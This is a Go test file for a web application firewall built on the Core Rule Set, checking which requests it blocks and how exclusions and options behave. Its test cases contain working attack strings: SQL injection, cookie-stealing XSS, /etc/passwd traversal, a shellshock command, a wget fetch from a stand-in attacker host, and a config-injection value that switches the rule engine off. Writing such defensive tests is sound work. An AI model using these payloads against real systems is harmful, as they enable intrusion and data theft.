package waf

import (
	"context"
	"errors"
	"fmt"
	"iter"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
)

// wafs caches one compiled WAF per option set for the whole test binary:
// New compiles the CRS.
var wafs sync.Map // fmt.Sprint(Options) -> func() (*WAF, error)

// compiled returns the WAF for opts, building it once per test binary.
func compiled(tb testing.TB, opts Options) *WAF {
	tb.Helper()
	f, _ := wafs.LoadOrStore(fmt.Sprintf("%+v", opts), sync.OnceValues(func() (*WAF, error) { return New(opts) }))
	w, err := f.(func() (*WAF, error))()
	if err != nil {
		tb.Fatalf("New(%+v): %v", opts, err)
	}
	return w
}

// headers yields name, value pairs in order.
func headers(kv ...string) iter.Seq2[string, string] {
	return func(yield func(string, string) bool) {
		for i := 0; i+1 < len(kv); i += 2 {
			if !yield(kv[i], kv[i+1]) {
				return
			}
		}
	}
}

// get is a GET as curl sends it.
func get(path, query string, extra ...string) *Request {
	return &Request{
		Method: "GET", Proto: "HTTP/1.1", Host: "api.example.com", RawPath: path, RawQuery: query,
		Headers:  headers(append([]string{"User-Agent", "curl/8.5.0", "Accept", "*/*"}, extra...)...),
		ClientIP: netip.MustParseAddr("198.51.100.7"), ClientPort: 51234, ServerPort: 443,
	}
}

// post is a JSON POST (or another method) with a body.
func post(method, path, contentType, body string) *Request {
	return &Request{
		Method: method, Proto: "HTTP/1.1", Host: "api.example.com", RawPath: path,
		Headers:  headers("User-Agent", "example-client/1.2", "Accept", "application/json", "Content-Type", contentType),
		ClientIP: netip.MustParseAddr("198.51.100.7"), ClientPort: 51234, ServerPort: 443,
		Body: []byte(body), HasBody: true,
	}
}

// legitJSON is a realistic JSON document of about 1 KiB: free text with
// apostrophes and punctuation, an email, a URL, non-ASCII names, numbers.
const legitJSON = `{"customer":{"id":"5f0c6d2e-8a4b-4c1e-9d3f-2b7a1e6c9f10","name":"Zoë Ångström","email":"zoe.angstrom@example.org","phone":"+46 8 123 456 78"},` +
	`"shipping":{"street":"12 Rue de la Paix","city":"Paris","postcode":"75002","country":"FR"},` +
	`"items":[{"sku":"BK-1024","title":"The Pragmatic Programmer","qty":1,"price":39.95},{"sku":"MG-0042","title":"Coffee mug, blue","qty":2,"price":12.5}],` +
	`"note":"Please leave the parcel with the concierge if nobody answers. Thanks a lot for the quick delivery last time, it was really appreciated!",` +
	`"gift":{"wrap":true,"message":"Happy birthday Anna - hope you enjoy the read and the mugs. See you on Saturday for dinner at eight."},` +
	`"website":"https://shop.example.com/orders/2024/10/confirmation?ref=newsletter","coupon":"AUTUMN-15","tags":["books","kitchen","gift"],` +
	`"metadata":{"source":"mobile-app","version":"4.12.0","locale":"fr-FR","timezone":"Europe/Paris","consent":{"marketing":false,"analytics":true}},` +
	`"createdAt":"2024-10-14T09:31:22Z","total":64.95,"currency":"EUR","paymentMethod":"card","loyaltyNumber":"LOY-00918273"}`

func TestLegitJSONSize(t *testing.T) {
	if n := len(legitJSON); n < 900 || n > 1200 {
		t.Errorf("legitJSON is %d bytes; the benchmarks call it 1 KiB", n)
	}
}

func TestInspect(t *testing.T) {
	pl1 := Options{Paranoia: 1}
	pl2 := Options{Paranoia: 2}
	tests := []struct {
		name    string
		opts    Options
		req     *Request
		blocked bool
		rule    int // a rule id the verdict must name (0: none checked)
	}{
		// Legitimate traffic.
		{"benign GET", pl1, get("/api/orders/42", "page=2&sort=createdAt"), false, 0},
		{"benign GET PL2", pl2, get("/api/orders/42", "page=2&sort=createdAt"), false, 0},
		{"1 KiB JSON POST", pl1, post("POST", "/api/orders", "application/json", legitJSON), false, 0},
		{"1 KiB JSON POST with charset", pl1, post("POST", "/api/orders", "application/json; charset=utf-8", legitJSON), false, 0},
		// Attacks at PL1.
		{"SQLi in query", pl1, get("/api/users", "id=1%27%20OR%20%271%27%3D%271"), true, 942100},
		{"SQLi in JSON field", pl1, post("POST", "/api/users", "application/json", `{"name":"x","comment":"1' UNION SELECT password FROM users--"}`), true, 942100},
		{"SQLi in nested JSON array", pl1, post("POST", "/api/users", "application/json", `{"items":[{"note":"1' UNION SELECT password FROM users--"}]}`), true, 942100},
		{"XSS in JSON body", pl1, post("POST", "/api/comments", "application/json", `{"body":"<script>alert(document.cookie)</script>"}`), true, 941100},
		{"path traversal in query", pl1, get("/api/files", "name=..%2F..%2F..%2Fetc%2Fpasswd"), true, 930100},
		{"path traversal in path", pl1, get("/api/files/..%2f..%2f..%2fetc%2fpasswd", ""), true, 930100},
		{"command injection in a header (shellshock)", pl1, get("/api/status", "", "X-Client-Info", "() { :; }; /bin/bash -c 'cat /etc/passwd'"), true, 932170},
		{"command injection in query", pl1, get("/api/ping", "host=example.com%3Bwget%20http%3A%2F%2Fevil.example%2Fx"), true, 932235},
		{"malformed JSON body", pl1, post("POST", "/api/users", "application/json", `{"name":`), true, 200002},
		// Paranoia 2 catches what PL1 lets through: an AngularJS template
		// injection.
		{"template injection at PL1", pl1, get("/api/search", "q=%7B%7B7*7%7D%7D"), false, 0},
		{"template injection at PL2", pl2, get("/api/search", "q=%7B%7B7*7%7D%7D"), true, 941380},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := compiled(t, tt.opts).Inspect(context.Background(), tt.req)
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked != tt.blocked {
				t.Errorf("Blocked = %v, want %v (verdict %+v)", v.Blocked, tt.blocked, v)
			}
			if tt.rule != 0 && !slices.Contains(v.Rules, tt.rule) {
				t.Errorf("rules %v, want %d among them", v.Rules, tt.rule)
			}
			if !tt.blocked && (v.Score >= v.Threshold || v.Exceeded) {
				t.Errorf("passed with score %d (threshold %d), exceeded %v", v.Score, v.Threshold, v.Exceeded)
			}
			if !slices.IsSorted(v.Rules) || len(slices.Compact(slices.Clone(v.Rules))) != len(v.Rules) {
				t.Errorf("rules %v not sorted and deduplicated", v.Rules)
			}
		})
	}
}

func TestDetectOnly(t *testing.T) {
	w := compiled(t, Options{Paranoia: 1, DetectOnly: true})
	v, err := w.Inspect(context.Background(), get("/api/users", "id=1%27%20OR%20%271%27%3D%271"))
	if err != nil {
		t.Fatal(err)
	}
	if v.Blocked || v.Interrupted {
		t.Errorf("detect-only blocked: %+v", v)
	}
	if !v.Exceeded || v.Score < 5 || !slices.Contains(v.Rules, 942100) {
		t.Errorf("detect-only did not report the attack: %+v", v)
	}
}

func TestExclusions(t *testing.T) {
	sqliQuery := get("/api/users", "id=1%27%20OR%20%271%27%3D%271")
	sqliComment := post("POST", "/api/users", "application/json", `{"name":"Ann","comment":"1' UNION SELECT password FROM users--"}`)
	sqliNote := post("POST", "/api/users", "application/json", `{"items":[{"note":"1' UNION SELECT password FROM users--"}],"x":"ok"}`)
	sqliOther := post("POST", "/api/users", "application/json", `{"name":"1' UNION SELECT password FROM users--","comment":"ok"}`)
	shellshockUA := get("/api/status", "")
	shellshockUA.Headers = headers("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "Accept", "*/*")
	sqliCookie := get("/api/me", "", "Cookie", "session=1%27%20OR%20%271%27%3D%271")
	comment := Exclusion{Rules: []RuleRange{{942000, 942999}}, Target: "ARGS:json.comment"}
	tests := []struct {
		name    string
		excl    []Exclusion
		req     *Request
		blocked bool
	}{
		{"no exclusion", nil, sqliQuery, true},
		{"by id", []Exclusion{{Rules: []RuleRange{{942100, 942100}}}}, sqliQuery, false},
		{"by other id", []Exclusion{{Rules: []RuleRange{{941000, 941999}}}}, sqliQuery, true},
		{"by target ARGS:id", []Exclusion{{Rules: []RuleRange{{942100, 942100}}, Target: "ARGS:id"}}, sqliQuery, false},
		{"by target on another arg", []Exclusion{{Rules: []RuleRange{{942100, 942100}}, Target: "ARGS:q"}}, sqliQuery, true},
		{"JSON field excluded", []Exclusion{comment}, sqliComment, false},
		{"JSON field excluded, attack in another field", []Exclusion{comment}, sqliOther, true},
		{"JSON array element excluded", []Exclusion{{Rules: []RuleRange{{942000, 942999}}, Target: "ARGS:json.items.0.note"}}, sqliNote, false},
		{"header excluded", []Exclusion{{Rules: []RuleRange{{932170, 932171}}, Target: "REQUEST_HEADERS:User-Agent"}}, shellshockUA, false},
		{"header excluded, name in lower case", []Exclusion{{Rules: []RuleRange{{932170, 932171}}, Target: "REQUEST_HEADERS:user-agent"}}, shellshockUA, false},
		{"other header excluded", []Exclusion{{Rules: []RuleRange{{932170, 932171}}, Target: "REQUEST_HEADERS:Referer"}}, shellshockUA, true},
		{"cookie not excluded", nil, sqliCookie, true},
		{"cookie excluded", []Exclusion{{Rules: []RuleRange{{942000, 942999}}, Target: "REQUEST_COOKIES:session"}}, sqliCookie, false},
		{"JSON field excluded, key case differs", []Exclusion{{Rules: []RuleRange{{942000, 942999}}, Target: "ARGS:json.Comment"}}, sqliComment, false},
		{"JSON field excluded from other rules only", []Exclusion{{Rules: []RuleRange{{941000, 941999}}, Target: "ARGS:json.comment"}}, sqliComment, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := compiled(t, Options{Paranoia: 1, Exclusions: tt.excl}).Inspect(context.Background(), tt.req)
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked != tt.blocked {
				t.Errorf("Blocked = %v, want %v (verdict %+v)", v.Blocked, tt.blocked, v)
			}
		})
	}
}

func TestBodyLimit(t *testing.T) {
	body := `{"note":"` + strings.Repeat("a", 200) + `"}`
	tests := []struct {
		name     string
		opts     Options
		blocked  bool
		exceeded bool
	}{
		{"over the limit", Options{Paranoia: 1, BodyLimit: 100}, true, true},
		{"over the limit, detect-only", Options{Paranoia: 1, BodyLimit: 100, DetectOnly: true}, false, true},
		{"exactly at the limit", Options{Paranoia: 1, BodyLimit: int64(len(body))}, false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := compiled(t, tt.opts).Inspect(context.Background(), post("POST", "/api/notes", "application/json", body))
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked != tt.blocked || v.BodyLimitExceeded != tt.exceeded {
				t.Errorf("verdict %+v, want blocked %v, body limit exceeded %v", v, tt.blocked, tt.exceeded)
			}
		})
	}
}

func TestInspectCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := compiled(t, Options{Paranoia: 1}).Inspect(ctx, get("/api/users", "id=secret-payload"))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if strings.Contains(err.Error(), "secret-payload") {
		t.Errorf("error carries request data: %v", err)
	}
}

func TestNewErrors(t *testing.T) {
	tests := []struct {
		name string
		opts Options
		want []string // substrings of the error
	}{
		{"paranoia 0", Options{}, []string{"paranoia: 0 is not a paranoia level"}},
		{"paranoia 5", Options{Paranoia: 5}, []string{"paranoia: 5"}},
		{"negative threshold", Options{Paranoia: 1, InboundThreshold: -1}, []string{"inbound_threshold: -1"}},
		{"body limit too big", Options{Paranoia: 1, BodyLimit: MaxBodyLimit + 1}, []string{"body_limit:"}},
		{"unknown profile", Options{Paranoia: 1, Profiles: []string{"json-api", "wordpress"}}, []string{`profiles[1]: unknown profile "wordpress"`}},
		{"no rules", Options{Paranoia: 1, Exclusions: []Exclusion{{Target: "ARGS:q"}}}, []string{"exclusions[0].rules: at least one"}},
		{"inverted range", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{942999, 942000}}}}}, []string{"exclusions[0].rules[0]: 942999-942000 is not a rule range"}},
		{"reserved rule", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{942100, 942100}}}, {Rules: []RuleRange{{949110, 949110}}}}}, []string{"exclusions[1].rules[0]: 949110 overlaps 949000-949999"}},
		{"whole CRS", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{1, 999999}}}}}, []string{"overlaps 200000-200099", "overlaps 900000-901999"}},
		{"bad target", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{942100, 942100}}, Target: "TX:foo"}}}, []string{"exclusions[0].target: target \"TX:foo\": collection must be one of"}},
		{"injecting target", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{942100, 942100}}, Target: "ARGS:x\nSecRuleEngine Off"}}}, []string{"exclusions[0].target:", "key may hold only"}},
		{"unknown rule", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{942100, 942100}, {942999, 942999}}, Target: "ARGS:q"}}}, []string{"exclusions[0].rules[1]: no rule 942999 in the core rule set"}},
		{"range without rules", Options{Paranoia: 1, Exclusions: []Exclusion{{Rules: []RuleRange{{100, 200}}}}}, []string{"exclusions[0].rules[0]: no rule 100-200 in the core rule set"}},
		{"every problem at once", Options{Paranoia: 9, InboundThreshold: -3, Profiles: []string{"x"}}, []string{"paranoia: 9", "inbound_threshold: -3", "profiles[0]"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(tt.opts)
			if err == nil {
				t.Fatal("New succeeded")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
		})
	}
}

func TestStats(t *testing.T) {
	s := compiled(t, Options{Paranoia: 1}).Stats()
	if s.Rules < 300 || s.Compile <= 0 {
		t.Errorf("stats %+v: want hundreds of rules and a compile time", s)
	}
}

// TestInspectConcurrent: one WAF, many goroutines, each verdict the same
// as the sequential one (run with -race to check the sharing).
func TestInspectConcurrent(t *testing.T) {
	w := compiled(t, Options{Paranoia: 1})
	reqs := []*Request{
		get("/api/orders/42", "page=2"),
		get("/api/users", "id=1%27%20OR%20%271%27%3D%271"),
		post("POST", "/api/orders", "application/json", legitJSON),
		post("POST", "/api/comments", "application/json", `{"body":"<script>alert(1)</script>"}`),
	}
	want := make([]bool, len(reqs))
	for i, r := range reqs {
		v, err := w.Inspect(context.Background(), r)
		if err != nil {
			t.Fatal(err)
		}
		want[i] = v.Blocked
	}
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for g := range 8 {
		wg.Go(func() {
			for i := range 4 {
				k := (g + i) % len(reqs)
				v, err := w.Inspect(context.Background(), reqs[k])
				if err != nil || v.Blocked != want[k] {
					errs <- fmt.Sprintf("request %d: blocked %v, err %v; want blocked %v", k, v.Blocked, err, want[k])
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}
